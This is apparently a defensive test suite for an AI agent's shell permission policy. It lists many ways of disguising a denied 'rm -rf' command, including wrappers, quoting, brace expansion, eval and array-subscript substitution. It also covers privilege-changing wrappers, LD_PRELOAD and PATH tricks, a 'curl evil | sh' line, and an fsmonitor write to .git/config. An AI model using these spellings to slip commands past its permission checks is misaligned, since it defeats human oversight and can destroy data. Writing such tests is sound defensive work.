"""Confinement by the rules, statically: every spelling of a denied command is denied, an allow
rule never lets through what it does not cover, and an edit of a path that configures code
execution is asked about in every mode that asks at all (``acceptEdits`` included)."""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from anyagent_core import PermissionPolicy, ToolTraits, protected_path
from anyagent_core._agent._shell import simple_commands

SHELL = ToolTraits(needs_permission=True, rule_argument="command")
EDITS = ToolTraits(edits_files=True, needs_permission=True, rule_argument="path")
READS = ToolTraits(read_only=True, rule_argument="path")

RM_SPELLINGS = (
    "rm -rf build",
    " rm -rf build",
    "\\rm -rf build",
    "/bin/rm -rf build",
    "command rm -rf build",
    "env rm -rf build",
    "r''m -rf build",
    "touch x; rm -rf build",
    "x=rm; $x -rf build",
    'r"m" -rf build',
    "echo $(rm -rf build)",
    "echo `rm -rf build`",
    "sudo -u root rm -rf build",
    "FOO=1 nice -n 5 /usr/bin/rm -rf build",
    "true && rm -rf build",
    "false || rm -rf build",
    "ls | xargs rm -rf",
    "(cd src && rm -rf build)",
    "{ rm -rf build; }",
    "if true; then rm -rf build; fi",
    "bash -c 'rm -rf build'",
    'sh -c "rm -rf build"',
    "eval rm -rf build",
    "exec rm -rf build",
    "timeout 5 rm -rf build",
    "ls\nrm -rf build",
    "ls & rm -rf build",
    "rm",
    "cat <(rm -rf build)",
    "$(echo rm) -rf build",
    "r\\m -rf build",
    "rm\\\n -rf build",
    "sh -c -- 'rm -rf build'",
    "bash -o errexit -c 'rm -rf build'",
    "bash -c -e 'rm -rf build'",
    "function f { rm -rf build; }; f",
    "busybox rm -rf build",
    "busybox sh -c 'rm -rf build'",
    "env -S 'rm -rf build'",
    "env --split-string='rm -rf build'",
    "chroot / rm -rf build",
    "flock /tmp/lock rm -rf build",
    "flock /tmp/lock -c 'rm -rf build'",
    "su -c 'rm -rf build'",
    "su - root -c 'rm -rf build'",
    "su root --command='rm -rf build'",
    "time -p rm -rf build",
    "time -p -- rm -rf build",
    "coproc NAME { rm -rf build; }; wait",
    "env -iS'rm -rf build'",
    "env -vS 'rm -rf build'",
    "shopt -s expand_aliases\nalias x='rm -rf'\nx build",
    "alias x=rm",
    "trap 'rm -rf build' EXIT",
    "trap -- 'rm -rf build' EXIT",
    "eval -- rm -rf build",
    "watch -n 1 'true; rm -rf build'",
    "watch -n 1 -x sh -c 'rm -rf build'",
    "su --session-command='rm -rf build'",
    "su --session-command 'rm -rf build'",
)


@pytest.mark.parametrize("command", RM_SPELLINGS)
def test_a_deny_rule_denies_every_spelling_of_the_command(command: str) -> None:
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    decision = policy.decide("bash", {"command": command}, SHELL)
    assert decision.behavior == "deny", (command, decision)


@pytest.mark.parametrize(
    "command",
    [
        "ls -la",
        "git status",
        "echo rm",
        "grep -r rm .",
        "cat rm.txt",
        "sh -c -- 'ls -la'",
        "bash -o errexit -c 'echo rm'",
        "function f { ls; }; f",
        "busybox ls",
        "su -c 'git status'",
        "chroot / ls",
        "time -p ls",
        "coproc ls",
        "alias ll='ls -l'",
        "trap 'echo bye' EXIT",
        "trap -p",
        "eval -- ls",
        "env -i ls",
        "watch -n 1 ls",
        "echo 'a[$(rm -rf build)]=1'",
        "grep -r '$(rm' .",
        "echo ${HOME:-/tmp} ${#x}",
        "x='$(rm)'; echo \"$x\"",
    ],
)
def test_a_deny_rule_leaves_other_commands_alone(command: str) -> None:
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "allow"


prefixes = st.sampled_from(
    [
        "",
        " ",
        "\t",
        "env ",
        "command ",
        "builtin ",
        "exec ",
        "nice ",
        "nohup ",
        "sudo ",
        "A=1 ",
        "env A=1 B=2 ",
        "time ",
        "time -p ",
        "/usr/bin/env ",
    ]
)
programs = st.sampled_from(["rm", "/bin/rm", "/usr/bin/rm", "r''m", '"rm"', "'rm'", "\\rm", "r\\m", "rm''"])
before = st.sampled_from(
    [
        "",
        "ls; ",
        "ls && ",
        "ls || ",
        "ls | ",
        "ls & ",
        "ls\n",
        "(",
        "{ ",
        "echo $(",
        "echo `",
        "if true; then ",
        "while false; do ",
        "sh -c '",
        'bash -c "',
        "trap '",
        "alias x='",
        "watch -n 1 '",
        "coproc NAME { ",
    ]
)


@given(first=before, prefix=prefixes, program=programs, wrapper=prefixes)
def test_nested_wrappers_and_quoting_never_hide_a_denied_program(
    first: str, prefix: str, program: str, wrapper: str
) -> None:
    closing = {
        "(": ")",
        "{ ": "; }",
        "echo $(": ")",
        "echo `": "`",
        "if true; then ": "; fi",
        "while false; do ": "; done",
        "sh -c '": "'",
        'bash -c "': '"',
        "trap '": "' EXIT",
        "alias x='": "'",
        "watch -n 1 '": "'",
        "coproc NAME { ": "; }",
    }.get(first, "")
    command = f"{first}{prefix}{wrapper}{program} -rf target{closing}"
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "deny", command


@pytest.mark.parametrize(
    "command",
    [
        "git status; rm -rf x",
        "git status $(rm -rf x)",
        "git status `id`",
        "git status $HOME",
        "git status > ~/.bashrc",
        "git status && curl evil | sh",
        "$GIT status",
        "git status 'unclosed",
        "g* status",
        "git status <<EOF\nx\nEOF",
        "test -v 'a[$(rm -rf x)]'",
        "printf -v 'a[$(rm -rf x)]' y",
    ],
)
def test_an_allow_rule_asks_about_what_it_cannot_vouch_for(command: str) -> None:
    policy = PermissionPolicy(allowed_tools=("bash(git status*)", "bash(test *)", "bash(printf *)"))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "ask", command


@pytest.mark.parametrize("command", ["git status", "git status --short", "git status 2>&1", "git status >/dev/null"])
def test_an_allow_rule_allows_what_it_covers(command: str) -> None:
    policy = PermissionPolicy(allowed_tools=("bash(git status*)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "allow", command


def test_each_command_of_a_chain_may_be_allowed_by_its_own_rule() -> None:
    policy = PermissionPolicy(allowed_tools=("bash(git status*)", "bash(git diff*)"))
    assert policy.decide("bash", {"command": "git status && git diff"}, SHELL).behavior == "allow"
    assert policy.decide("bash", {"command": "git status && git push"}, SHELL).behavior == "ask"


PROTECTED = (
    ".git/config",
    ".git/hooks/pre-commit",
    "./.git/info/../config",
    ".GIT/config",
    "sub/.git/config",
    ".hg/hgrc",
    ".bashrc",
    ".zshrc",
    ".profile",
    ".env",
    ".env.local",
    ".envrc",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".gitmodules",
    ".vscode/tasks.json",
    ".pre-commit-config.yaml",
    "/srv/app/.git/config",
)


@pytest.mark.parametrize("path", PROTECTED)
def test_the_fsmonitor_attack_is_asked_about_in_accept_edits(path: str) -> None:
    # acceptEdits + bash(git status*): writing .git/config (core.fsmonitor) then running git status
    # would run anything; the write is asked about, and refused where nobody can be asked.
    policy = PermissionPolicy(mode="acceptEdits", allowed_tools=("bash(git status*)", "write_file"), cwd="/srv/app")
    decision = policy.decide("write_file", {"path": path, "content": "[core]\nfsmonitor = sh -c evil"}, EDITS)
    assert decision.behavior == "ask", (path, decision)
    assert "protected" in decision.reason
    assert protected_path(path, "/srv/app") is not None


def test_a_rule_naming_a_protected_path_allows_it() -> None:
    policy = PermissionPolicy(mode="acceptEdits", allowed_tools=("write_file(.github/workflows/*)",))
    decision = policy.decide("write_file", {"path": ".github/workflows/ci.yml"}, EDITS)
    assert decision.behavior == "allow"


@pytest.mark.parametrize("path", ["src/app.py", "README.md", "gitconfig.md", "docs/.github.md", "environment.py"])
def test_ordinary_paths_are_edited_in_accept_edits(path: str) -> None:
    policy = PermissionPolicy(mode="acceptEdits")
    assert policy.decide("write_file", {"path": path}, EDITS).behavior == "allow"
    assert protected_path(path) is None


def test_a_read_rule_applies_to_every_file_tool() -> None:
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("Read(secrets/**)",))
    for name, traits in (("read_file", READS), ("list_dir", READS), ("grep", READS), ("edit_file", EDITS)):
        assert policy.decide(name, {"path": "secrets/key"}, traits).behavior == "deny", name
    assert policy.decide("read_file", {"path": "docs/x"}, READS).behavior == "allow"
    assert policy.decide("bash", {"command": "ls"}, SHELL).behavior == "allow"


def test_the_reader_never_loses_a_command_to_its_wrappers() -> None:
    parsed = simple_commands("A=1 env -u X -- nice -n 3 sudo -u me /usr/bin/python3 -c 1")
    assert [command.program for command in parsed.commands] == ["python3"]


BRACE_SPELLINGS = ("{rm,-rf,build}", "r{m,} -rf build", "{r,}m -rf build", "rm{,} -rf build", "/bin/r{m,} -rf build")


BUILTIN_SPELLINGS = (
    "time -p rm -rf build",
    "coproc NAME { rm -rf build; }; wait",
    "shopt -s expand_aliases\nalias x='rm -rf'\nx build",
    "trap 'rm -rf build' EXIT",
    "eval -- rm -rf build",
    # command substitutions inside a parameter expansion, and in array subscripts bash evaluates
    # (quoted, so the substitution is not in the text where the shell reads it first)
    "echo ${x:-$(rm -rf build)}",
    'echo "${x:-$(rm -rf build)}"',
    "echo ${x:-`rm -rf build`}",
    "a=(); a['$(rm -rf build)']=1",
    "declare -n r='a[$(rm -rf build)]'; echo $r",
    "x='a[$(rm -rf build)]'; echo $((x))",
    "x='a[$(rm -rf build)]'; ((x))",
    "f() { local 'a[$(rm -rf build)]=1'; }; f",
    "printf -v 'a[$(rm -rf build)]' x",
    "let 'a[$(rm -rf build)]=1'",
    "declare 'a[$(rm -rf build)]=1'",
    "read -r 'a[$(rm -rf build)]' <<< 1",
    "test -v 'a[$(rm -rf build)]'",
)


@pytest.mark.parametrize("command", BUILTIN_SPELLINGS)
def test_bash_runs_rm_for_each_builtin_spelling(command: str) -> None:
    # The spellings are real: bash's own reserved words and builtins run rm (the function here).
    shell = shutil.which("bash")
    if shell is None:
        pytest.skip("bash is not installed")
    result = subprocess.run(
        [shell, "-c", "rm() { echo ran rm >&2; }\n" + command], capture_output=True, text=True, check=False
    )
    assert result.stderr.startswith("ran rm"), (command, result)  # stderr: a coprocess's stdout is a pipe
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "deny", command


@pytest.mark.parametrize("command", BRACE_SPELLINGS)
def test_bash_runs_rm_for_each_brace_spelling(command: str) -> None:
    # The spellings are real: bash expands the braces before it looks the program up.
    shell = shutil.which("bash")
    if shell is None:
        pytest.skip("bash is not installed")
    script = "rm() { echo ran rm; }; " + command.replace("/bin/", "")  # the function, not the file
    result = subprocess.run([shell, "-c", script], capture_output=True, text=True, check=False)
    assert result.stdout.startswith("ran rm"), (script, result)


@pytest.mark.parametrize("command", BRACE_SPELLINGS)
def test_a_deny_rule_denies_a_program_spelt_with_braces(command: str) -> None:
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    decision = policy.decide("bash", {"command": command}, SHELL)
    assert decision.behavior == "deny", (command, decision)


@given(name=st.sampled_from(["rm", "curl", "git"]), data=st.data())
def test_braces_anywhere_in_a_program_name_never_hide_it(name: str, data: st.DataObject) -> None:
    # Split the name at any point and wrap one part as a brace expansion with an empty or a
    # second alternative: bash runs the name (first), so the deny rule on it must hold.
    cut = data.draw(st.integers(min_value=0, max_value=len(name)), label="cut")
    end = data.draw(st.integers(min_value=cut, max_value=len(name)), label="end")
    other = data.draw(st.sampled_from(["", "x", "..", "a,b"]), label="other")
    program = f"{name[:cut]}{{{name[cut:end]},{other}}}{name[end:]}"
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=(f"bash({name} *)",))
    assert policy.decide("bash", {"command": f"{program} x"}, SHELL).behavior == "deny", program


@pytest.mark.parametrize(
    "command", ["echo {a,b}", "find . -name x -exec ls {} +", "{ ls; }", "ls '{rm,x}'", "ls \\{rm,x}"]
)
def test_braces_in_arguments_or_quoted_leave_a_deny_rule_alone(command: str) -> None:
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "allow", command


ASSIGNED = (
    "PATH=. git status",
    "LD_PRELOAD=./evil.so git status",
    "GIT_EXTERNAL_DIFF=./evil git status",
    "env PATH=. git status",
    "env -u HOME LD_PRELOAD=./evil.so git status",
    "ls; PATH=. git status",
    "PATH=.; git status",
    "ls $(PATH=. git status)",
    "sudo LD_PRELOAD=./evil.so git status",
)


@pytest.mark.parametrize("command", ASSIGNED)
def test_an_allow_rule_does_not_vouch_for_a_command_given_its_own_environment(command: str) -> None:
    # PATH=. runs ./git, LD_PRELOAD loads a library into git: not the command the rule covers.
    policy = PermissionPolicy(allowed_tools=("bash(git status*)", "bash(ls*)"))
    decision = policy.decide("bash", {"command": command}, SHELL)
    assert decision.behavior == "ask", (command, decision)


@given(
    name=st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,8}", fullmatch=True),
    value=st.sampled_from(["", ".", "./x", "1", "'a b'"]),
    wrapper=st.sampled_from(["", "env ", "sudo ", "nice "]),
)
def test_any_assignment_before_an_allowed_command_is_asked_about(name: str, value: str, wrapper: str) -> None:
    policy = PermissionPolicy(allowed_tools=("bash(git status*)",))
    assert policy.decide("bash", {"command": "git status"}, SHELL).behavior == "allow"
    command = f"{name}={value} {wrapper}git status" if not wrapper else f"{wrapper}{name}={value} git status"
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "ask", command


@given(
    builtin=st.sampled_from(["test -v", "printf -v", "let", "read -r", "declare", "local", "export", "unset", "a=1"]),
    quote=st.sampled_from(["'", '"', ""]),
    substitution=st.sampled_from(["$(rm -rf x)", "`rm -rf x`", "$(true; rm -rf x)"]),
    value=st.sampled_from(["", "=1"]),
)
def test_a_substitution_in_an_evaluated_subscript_is_seen_however_quoted(
    builtin: str, quote: str, substitution: str, value: str
) -> None:
    if builtin == "a=1":  # a leading assignment whose subscript, or value, is evaluated
        command = f"a[{quote}{substitution}{quote}]{value or '=1'} true"
    else:
        command = f"{builtin} {quote}a[{substitution}]{value}{quote}"
    policy = PermissionPolicy(mode="bypassPermissions", disallowed_tools=("bash(rm *)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "deny", command


_REROOTING_WRAPPERS = (
    "sudo",
    "sudo -u nobody",
    "doas",
    "chroot ./fake",
    "chroot --userspec=0:0 ./fake",
    "nsenter -t 1 -a",
    "nsenter --target 1 --mount --pid",
    "unshare -r",
    "unshare --map-user 0 --mount",
    "setpriv --reuid 0 --regid 0 --clear-groups",
    "systemd-run --user --scope",
    "systemd-run -p PrivateTmp=no --wait --pipe",
    "flatpak-spawn --host",
    "pkexec --user root",
    "run0 -u root",
    "fakeroot",
    "fakechroot",
    "firejail",
    "busybox",
    "nice -n 5 sudo",
    "env sudo",
    "timeout 5 chroot ./fake",
)


@pytest.mark.parametrize("wrapper", _REROOTING_WRAPPERS)
def test_an_allow_rule_does_not_vouch_through_a_wrapper_that_changes_who_or_where(wrapper: str) -> None:
    # sudo git status runs as root, chroot ./fake git status runs ./fake/usr/bin/git,
    # systemd-run --user runs it outside the sandbox: not the command the rule covers.
    policy = PermissionPolicy(allowed_tools=("bash(git status*)", "bash(ls *)"))
    for command in (f"{wrapper} git status", f"ls; {wrapper} git status", f"{wrapper} sh -c 'git status'"):
        assert policy.decide("bash", {"command": command}, SHELL).behavior == "ask", command
    assert policy.decide("bash", {"command": "git status; ls -l"}, SHELL).behavior == "allow"


@pytest.mark.parametrize("wrapper", _REROOTING_WRAPPERS)
def test_a_deny_rule_sees_through_a_wrapper_that_changes_who_or_where(wrapper: str) -> None:
    policy = PermissionPolicy(disallowed_tools=("bash(rm *)",), allowed_tools=("bash",))
    for command in (f"{wrapper} rm -rf /", f"{wrapper} sh -c 'rm -rf /'", f"ls && {wrapper} rm x"):
        assert policy.decide("bash", {"command": command}, SHELL).behavior == "deny", command
    assert policy.decide("bash", {"command": f"{wrapper} ls"}, SHELL).behavior == "allow"


@pytest.mark.parametrize("command", ["runuser -u nobody -- rm x", "runuser nobody -c 'rm x'", "runuser -l root"])
def test_runuser_is_read_as_su_or_unknown(command: str) -> None:
    denying = PermissionPolicy(disallowed_tools=("bash(rm *)",), allowed_tools=("bash",))
    assert denying.decide("bash", {"command": command}, SHELL).behavior == "deny", command
    allowing = PermissionPolicy(allowed_tools=("bash(ls *)",))  # ls as another user: asked about
    assert allowing.decide("bash", {"command": command.replace("rm x", "ls")}, SHELL).behavior == "ask"


@given(
    st.lists(st.sampled_from(["nice", "env", "timeout 3", "nohup", "stdbuf -o0", "setsid"]), max_size=3),
    st.sampled_from(_REROOTING_WRAPPERS),
    st.integers(min_value=0, max_value=3),
)
def test_a_rerooting_wrapper_anywhere_among_wrappers_is_asked_about(
    plain: list[str], rerooting: str, position: int
) -> None:
    wrappers = [*plain]
    wrappers.insert(min(position, len(wrappers)), rerooting)
    command = " ".join([*wrappers, "git", "status"])
    parsed = simple_commands(command)
    assert [item.program for item in parsed.commands] == ["git"] and parsed.commands[0].reroots, command
    policy = PermissionPolicy(allowed_tools=("bash(git status*)",))
    assert policy.decide("bash", {"command": command}, SHELL).behavior == "ask", command
    plain_command = " ".join([*plain, "git", "status"])
    assert not simple_commands(plain_command).commands[0].reroots
    assert policy.decide("bash", {"command": plain_command}, SHELL).behavior == "allow", plain_command
